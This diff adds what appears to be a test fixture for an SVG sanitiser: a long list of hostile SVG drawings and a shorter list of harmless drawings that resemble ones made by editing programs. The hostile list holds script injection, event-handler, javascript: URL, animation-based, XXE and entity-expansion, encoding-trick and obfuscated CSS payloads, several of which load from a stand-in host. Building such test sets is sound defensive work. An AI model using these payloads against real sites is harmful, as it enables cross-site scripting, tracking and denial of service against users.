@@ -1,0 +1,136 @@
+/** What every attack here ends in where it gets through; the second asks for an address of another host. */
+const run = "ran('drawing')";
+const away = 'https://elsewhere.example/';
+
+const svg = (inner: string, attributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"${attributes}>${inner}</svg>`;
+const html = 'xmlns="http://www.w3.org/1999/xhtml"';
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+const use = (address: string) => svg(`<use href="${address}"/>`);
+const css = (rules: string) => svg(`<style>${rules}</style><rect width="9" height="9" class="a"/>`);
+const fill = (value: string) => svg(`<rect width="9" height="9" fill="${value}"/>`);
+
+/** Drawings that would act, or ask for something, when they are opened by themselves. */
+export const hostileDrawings: readonly (string | Uint8Array)[] = [
+  svg(`<script>${run}</script>`),
+  svg(`<script href="data:text/javascript,${run}"/>`),
+  svg(`<script xlink:href="${away}a.js"/>`),
+  svg(`<g><script type="module">${run}</script></g>`),
+  `<x:svg xmlns:x="http://www.w3.org/2000/svg" width="9" height="9"><x:script>${run}</x:script></x:svg>`,
+  `<a-b:svg xmlns:a-b="http://www.w3.org/2000/svg" width="9" height="9"><a-b:script>${run}</a-b:script></a-b:svg>`,
+  `<ش:svg xmlns:ش="http://www.w3.org/2000/svg" width="9" height="9"><ش:script>${run}</ش:script></ش:svg>`,
+  `<svg xmlns="http&#58;//www.w3.org/2000/svg" width="9" height="9"><script>${run}</script></svg>`,
+  svg(`<ö.:script>${run}</ö.:script>`, ' xmlns:ö.="http://www.w3.org/2000/svg"'),
+  svg(`<script ${html}>${run}</script>`),
+  svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`),
+  svg(`<img ${html} src="x:" onerror="${run}"/>`),
+  svg(`<iframe ${html} srcdoc="&lt;script>parent.${run}&lt;/script>"/>`),
+  svg(`<meta ${html} http-equiv="refresh" content="0;url=${away}"/>`),
+  svg(`<link ${html} rel="stylesheet" href="${away}a.css"/>`),
+  svg(`<base ${html} href="${away}"/><image href="#a"/>`),
+  svg(`<embed ${html} src="${away}"/><object ${html} data="${away}"/>`),
+  svg(`<video ${html} src="${away}a.mp4" autoplay=""/><audio ${html} src="${away}a.mp3" autoplay=""/>`),
+  svg(`<form ${html} action="${away}"><input type="image" src="${away}a.png"/></form>`),
+  svg(`<metadata><script ${html}>${run}</script></metadata>`),
+  svg(`<title><b ${html} onclick="${run}"><img src="${away}a.png"/></b></title>`),
+  svg(
+    `<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script xmlns="http://www.w3.org/2000/svg">${run}</script></r:RDF></metadata>`,
+  ),
+  svg(`<foreignObject width="9" height="9"><body ${html}><script>${run}</script></body></foreignObject>`),
+  svg(`<foreignObject width="9" height="9"><iframe ${html} src="${away}"/></foreignObject>`),
+  svg('', ` onload="${run}"`),
+  svg('', ` onload&#61;"${run}"`),
+  svg(`<g\nonload\n=\n"${run}"/>`),
+  svg(`<g onfocusin="${run}" tabindex="1" autofocus="autofocus"/>`),
+  svg(`<animate attributeName="x" dur="1s" onbegin="${run}"/>`),
+  svg(`<set attributeName="x" to="1" onbegin="${run}"/>`),
+  svg(`<image href="x:" onerror="${run}"/>`),
+  svg(`<style onload="${run}">a{}</style>`),
+  svg(`<a href="javascript:${run}"><text y="20">a</text></a>`),
+  svg(`<a xlink:href="java&#115;cript:${run}"><text y="20">a</text></a>`),
+  svg(`<a href=" java&#10;script:${run}"><text y="20">a</text></a>`),
+  svg(`<a x:href="javascript:${run}" xmlns:x="http://www.w3.org/1999/xlink"><text y="20">a</text></a>`),
+  svg(`<a><text y="20">a</text><set attributeName="href" to="javascript:${run}"/></a>`),
+  svg(`<a><text y="20">a</text><animate attributeName="xlink:href" values="javascript:${run}"/></a>`),
+  svg(`<a href="#a"><animate attributeName="href" from="#a" to="${away}" begin="0s" fill="freeze"/></a>`),
+  svg(`<set attributeName="onload" to="${run}"/>`),
+  svg(`<rect width="9" height="9"><set attributeName="fill" to="url(${away}a.svg#a)"/></rect>`),
+  svg(`<rect width="9" height="9"><animate attributeName="style" values="fill:url(${away}#a)"/></rect>`),
+  svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`),
+  `<!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>${run}</script>">]>${svg('&a;')}`,
+  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${svg('')}`,
+  `<!DOCTYPE svg [<!ATTLIST script href CDATA "${away}a.js">]>${svg('')}`,
+  `<!DOCTYPE svg [<!ENTITY a SYSTEM "${away}a">]>${svg('&a;')}`,
+  `<!DOCTYPE svg SYSTEM "${away}a.dtd">${svg('')}`,
+  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('&b;')}`,
+  `<?xml-stylesheet href="${away}a.css"?>${svg('')}`,
+  `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?>${svg('')}`,
+  `${svg('')}<?xml-stylesheet href="${away}a.css"?>`,
+  utf16(svg(`<script>${run}</script>`)),
+  `<?xml version="1.0" encoding="utf-7"?>${svg('+ADw-script+AD4-ran(1)+ADw-/script+AD4-')}`,
+  Buffer.from(`<?xml version="1.0" encoding="iso-2022-jp"?>${svg('\u001b$B\u001b(B')}`),
+  `<?xml version="1.1"?>${svg('')}`,
+  use(`${away}a.svg#a`),
+  use('/ar/#a'),
+  use('a.svg#a'),
+  use(`data:image/svg+xml;base64,${base64(svg(`<g id="a"><script>${run}</script></g>`))}#a`),
+  svg(`<image href="${away}a.png"/>`),
+  svg('<image href="\u00a0#a"/>'),
+  svg(`<image href="//elsewhere.example/a.png"/>`),
+  svg(`<image href="data:image/svg+xml,${encodeURIComponent(svg(`<image href="${away}a.png"/>`))}"/>`),
+  svg(`<feImage href="${away}a.png"/>`),
+  svg(`<image href="a.png" xml:base="${away}"/>`),
+  svg(`<text><textPath href="${away}a.svg#a">a</textPath></text>`),
+  svg(`<cursor id="a" xlink:href="${away}a.png"/>`),
+  svg(`<font-face><font-face-src><font-face-uri xlink:href="${away}a.svg#a"/></font-face-src></font-face>`),
+  fill(`url(${away}a.svg#a)`),
+  fill(`url('${away}a.svg#a')`),
+  fill(`u\\72l(${away}a.svg#a)`),
+  fill(`&#117;rl(${away}a.svg#a)`),
+  fill(`url(\\22 #a) url(${away}a.svg#a) \\22 )`),
+  svg(`<rect width="9" height="9" filter="url(${away}a.svg#a)" mask="url(${away}b.svg#a)"/>`),
+  svg(`<rect width="9" height="9" style="cursor:url(${away}a.png),auto"/>`),
+  svg(`<rect width="9" height="9" style="background:image-set('${away}a.png' 1x)"/>`),
+  svg(`<rect width="9" height="9" style="mask-image:-webkit-image-set('${away}a.png' 1x)"/>`),
+  css(`@import "${away}a.css";`),
+  css(`@\\69mport "${away}a.css";`),
+  css(`@import url(data:text/css,a%7b%7d);`),
+  css(`@font-face{font-family:a;src:url(${away}a.woff2)} text{font-family:a}`),
+  css(`.a{fill:url("/*") ; mask:url(${away}a.svg#a) ; x:url("*/")}`),
+  css(`.a{mask:ur<!-- -->l(${away}a.svg#a)}`),
+  css(`<![CDATA[.a{mask:url(]]>${away}a.svg#a)}`),
+  css(`.a{mask:ur<g>x</g>l(${away}a.svg#a)}`),
+  css(`.a{mask:url(\\000068ttps://elsewhere.example/a.svg#a)}`),
+  svg(`<style type="text/css" xmlns:h="http://www.w3.org/1999/xhtml">@import '${away}a.css'</style>`),
+  svg(`<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import '${away}a.css';</h:style>`),
+  svg(`<a href="#a" ping="${away}" download="a.exe"><text>a</text></a>`),
+  svg(
+    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"><m:mi>a</m:mi></m:math>`,
+  ),
+  svg(`<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script></x:html>`),
+  `<html ${html}><body onload="${run}"/></html>`,
+  `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0">${svg('')}</x:stylesheet>`,
+  `<html><script>${run}</script></html>`,
+];
+
+/** Drawings as drawing programs write them, or with words that only look like an attack. */
+export const harmlessDrawings: readonly string[] = [
+  svg('<title>javascript: a &lt;script&gt; onload=&quot;a()&quot; @import url(https://a.example/)</title>'),
+  svg('<desc><![CDATA[<script>ran(1)</script>]]></desc><text y="9">onload="ran(1)" url(a)</text>'),
+  svg('<!-- <script>ran(1)</script> --><path d="M0 0h9v9z" id="onload" class="script"/>'),
+  `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Inkscape -->\n${svg(
+    '<sodipodi:namedview pagecolor="#fff" inkscape:zoom="1"/><metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata><g inkscape:label="a(1)" inkscape:groupmode="layer" style="fill:#000;-inkscape-font-specification:Sans"><path d="m0 0" sodipodi:nodetypes="cc"/></g>',
+    ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" sodipodi:docname="a.svg" xml:space="preserve"',
+  )}\n`,
+  svg(
+    '<style type="text/css">.st0{fill:url(#a);filter:url("#b")} @media (prefers-color-scheme: dark){.st0{fill:rgb(1,2,3)}} @keyframes k{to{transform:rotate(1turn) translate(1px,calc(2px + 1%))}}</style><linearGradient id="a" gradientTransform="matrix(1 0 0 1 0 0)"><stop offset="0" stop-color="var(--c,#fff)"/></linearGradient><rect class="st0" width="9" height="9" data-name="Layer (1)" aria-label="a"/>',
+    ' version="1.1" id="Layer_1" x="0px" y="0px" viewBox="0 0 9 9" style="enable-background:new 0 0 9 9;" xml:space="preserve" role="img"',
+  ),
+  svg(
+    '<defs><path id="p" d="M0 0"/><clipPath id="c"><use xlink:href="#p"/></clipPath></defs><g clip-path="url(#c)"><use href=" #p"/><image width="1" height="1" xlink:href="data:image/png;base64,\niVBORw0KGgo="/></g><a href="#p"><text font-family="\'Noto Kufi Arabic\', sans-serif" direction="rtl">سجلّ</text></a>',
+  ),
+  svg(
+    '<style>@font-face{font-family:"a";src:url("data:font/woff2;base64,d09GMg==") format("woff2")}</style><circle r="5"><animate attributeName="r" values="1;5;1" dur="2s" repeatCount="indefinite"/><animateTransform attributeName="transform" type="rotate" from="0 1 1" to="360 1 1" dur="1s"/></circle>',
+  ),
+];
